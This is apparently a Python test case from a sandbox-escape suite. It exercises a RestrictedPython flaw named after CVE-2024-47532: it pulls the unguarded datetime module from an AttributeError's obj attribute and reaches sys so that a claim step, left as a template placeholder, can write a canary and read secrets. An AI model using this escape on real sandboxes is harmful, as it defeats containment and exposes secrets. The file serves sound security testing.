"""AttributeError.obj hands back the object whose lookup failed.

Source: RestrictedPython advisory CVE-2024-47532: the obj attribute of an
AttributeError raised inside a guarded lookup exposed the unguarded object.
Tries: fail a lookup on the datetime module, take the real module from the
exception, and use its sys re-export to write the canary and read secrets.
"""

# escape-test: {"stage": "gate", "kind": ["raised"]}

import datetime


def rp_attributeerror_obj() -> dict:
    try:
        datetime.no_such_name
    except AttributeError as exc:
        real = exc.obj
    return claim(real.sys)


{{CLAIM}}
